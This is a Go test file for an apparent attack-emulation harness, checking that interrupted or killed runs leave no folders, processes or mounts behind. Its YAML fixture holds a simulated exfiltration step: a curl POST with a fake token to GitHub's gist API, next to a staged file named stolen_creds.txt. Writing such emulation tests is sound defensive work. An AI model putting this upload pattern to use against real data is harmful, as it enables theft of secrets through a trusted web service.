package main

import (
	"bufio"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t1567001/harness/harness"
)

// asHarness makes the test binary run as the harness CLI, signals and all.
const asHarness = "T1567_TEST_AS_HARNESS"

// slowAtomic leaves a child behind, uploads, and takes a while.
const slowAtomic = `attack_technique: T0000
display_name: signal probe
atomic_tests:
- name: slow upload
  description: uploads, leaves a child, and takes its time
  supported_platforms: [linux]
  staged_files: [stolen_creds.txt]
  executor:
    name: sh
    command: |
      sleep 300 &
      curl -sS -X POST -H 'Authorization: token ghp_fake' --data-binary '{"files":{"a.txt":{"content":"x"}}}' https://api.github.com/gists >/dev/null
      sleep 3
`

// leftovers lists what a run under tmp left: folders, tagged processes,
// mounts.
func leftovers(t *testing.T, tmp string) []string {
	t.Helper()
	var left []string
	entries, err := os.ReadDir(tmp)
	require.NoError(t, err)
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), "t1567-") {
			left = append(left, "folder "+e.Name())
		}
	}
	procs, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, p := range procs {
		env, err := os.ReadFile(p)
		if err == nil && strings.Contains(string(env), harness.RunDirEnv+"="+tmp) {
			left = append(left, "process "+filepath.Dir(p))
		}
	}
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	require.NoError(t, err)
	for _, line := range strings.Split(string(mounts), "\n") {
		if strings.Contains(line, tmp) {
			left = append(left, "mount "+line)
		}
	}
	return left
}

func isProcess(leftover string) bool { return strings.HasPrefix(leftover, "process ") }

// TestSignalsLeaveNothingBehind interrupts `harness run` at the start,
// while the atomic runs and once it is over (rendering), with SIGINT and
// SIGTERM, and closes its output like `| head -1` (SIGPIPE): no folder,
// process or mount of the run may remain.
func TestSignalsLeaveNothingBehind(t *testing.T) {
	if testing.Short() {
		t.Skip("skipped with -short: the reason is that it runs the harness nine times")
	}
	exe, err := os.Executable()
	require.NoError(t, err)
	atomics := filepath.Join(t.TempDir(), "T0000.yaml")
	require.NoError(t, os.WriteFile(atomics, []byte(slowAtomic), 0o600))

	cases := []struct {
		name  string
		sig   syscall.Signal
		after string // stderr text to wait for ("" = at once)
	}{
		{"SIGINT at start", syscall.SIGINT, ""},
		{"SIGTERM at start", syscall.SIGTERM, ""},
		{"SIGINT mid-atomic", syscall.SIGINT, " ...\n"},
		{"SIGTERM mid-atomic", syscall.SIGTERM, " ...\n"},
		{"SIGINT while rendering", syscall.SIGINT, "staged file intact"},
		{"SIGTERM while rendering", syscall.SIGTERM, "staged file intact"},
		{"SIGPIPE", syscall.SIGPIPE, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			// Each run has a temporary folder of its own, where its
			// leftovers are looked for: the cases run side by side.
			t.Parallel()
			tmp := t.TempDir()
			cmd := exec.Command(exe, "run", "--atomics", atomics)
			cmd.Env = append(os.Environ(), asHarness+"=1", "TMPDIR="+tmp)
			r, w, err := os.Pipe()
			require.NoError(t, err)
			cmd.Stdout, cmd.Stderr = w, w
			require.NoError(t, cmd.Start())
			w.Close()
			lines := bufio.NewReader(r)
			switch {
			case tc.sig == syscall.SIGPIPE:
				// `| head -1`: one line, then the reader is gone.
				_, err := lines.ReadString('\n')
				require.NoError(t, err)
				r.Close()
			case tc.after == "":
				time.Sleep(20 * time.Millisecond)
				require.NoError(t, cmd.Process.Signal(tc.sig))
			default:
				var seen strings.Builder
				for !strings.Contains(seen.String(), tc.after) {
					line, err := lines.ReadString('\n')
					seen.WriteString(line)
					require.NoError(t, err, "waiting for %q in:\n%s", tc.after, seen.String())
				}
				require.NoError(t, cmd.Process.Signal(tc.sig))
			}
			if tc.sig != syscall.SIGPIPE {
				go io.Copy(io.Discard, r)
			}
			done := make(chan error, 1)
			go func() { done <- cmd.Wait() }()
			select {
			case <-done:
			case <-time.After(60 * time.Second):
				_ = cmd.Process.Kill()
				t.Fatal("the harness did not stop")
			}
			assert.Empty(t, leftovers(t, tmp))
		})
	}
}

// TestKilledRunIsCleanedUp: after a SIGKILL of the harness mid-atomic
// its folder is left (its processes end with the reaper, which gets
// SIGTERM when the harness dies); `harness clean` removes the folder and
// ends any process of the run still alive.
func TestKilledRunIsCleanedUp(t *testing.T) {
	exe, err := os.Executable()
	require.NoError(t, err)
	atomics := filepath.Join(t.TempDir(), "T0000.yaml")
	require.NoError(t, os.WriteFile(atomics, []byte(slowAtomic), 0o600))
	tmp := t.TempDir()
	env := append(os.Environ(), asHarness+"=1", "TMPDIR="+tmp)
	cmd := exec.Command(exe, "run", "--no-sandbox", "--no-sensor", "--atomics", atomics)
	cmd.Env = env
	stderr, err := cmd.StderrPipe()
	require.NoError(t, err)
	require.NoError(t, cmd.Start())
	lines := bufio.NewReader(stderr)
	line, err := lines.ReadString('\n')
	require.NoError(t, err)
	require.Contains(t, line, " ...")
	// Mid-atomic: once a process of the run is alive.
	require.Eventually(t, func() bool { return slices.ContainsFunc(leftovers(t, tmp), isProcess) }, time.Minute, 10*time.Millisecond)
	require.NoError(t, cmd.Process.Kill())
	_ = cmd.Wait()
	require.NotEmpty(t, leftovers(t, tmp), "a SIGKILL leaves the run behind")

	// --run-id keeps the container half of clean to this (container-less)
	// run: a bare clean would remove every harness container on the
	// engine, other runs' too.
	clean := exec.Command(exe, "clean", "--run-id", "test-killed-"+filepath.Base(tmp))
	clean.Env = env
	out, err := clean.CombinedOutput()
	require.NoError(t, err, string(out))
	assert.Contains(t, string(out), "removed orphaned run folder")
	require.Eventually(t, func() bool { return len(leftovers(t, tmp)) == 0 }, 5*time.Second, 50*time.Millisecond,
		"left: %v", leftovers(t, tmp))
}
